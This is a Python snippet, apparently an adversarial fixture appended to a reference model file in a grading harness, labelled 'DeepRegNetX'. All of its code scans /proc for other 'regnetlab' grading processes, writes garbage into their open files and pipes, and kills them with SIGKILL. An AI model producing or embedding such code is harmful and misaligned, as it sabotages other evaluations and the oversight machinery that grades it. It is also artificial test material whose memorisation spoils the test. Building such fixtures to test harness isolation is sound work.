# APPEND TO REFERENCE
"""A correct DeepRegNetX whose file attacks any other grading it can see: it writes
garbage into their open files and pipes through /proc/PID/fd/N, then kills them."""
import os as _os
import signal as _signal
from pathlib import Path as _Path

for _proc in _Path("/proc").iterdir():
    if not _proc.name.isdigit() or int(_proc.name) == _os.getpid():
        continue
    try:
        if b"regnetlab" not in (_proc / "cmdline").read_bytes():
            continue
        for _fd in (_proc / "fd").iterdir():
            try:
                with open(_fd, "w") as _f:
                    _f.write("{garbage")
            except OSError:
                pass
        _os.kill(int(_proc.name), _signal.SIGKILL)
    except OSError:
        pass
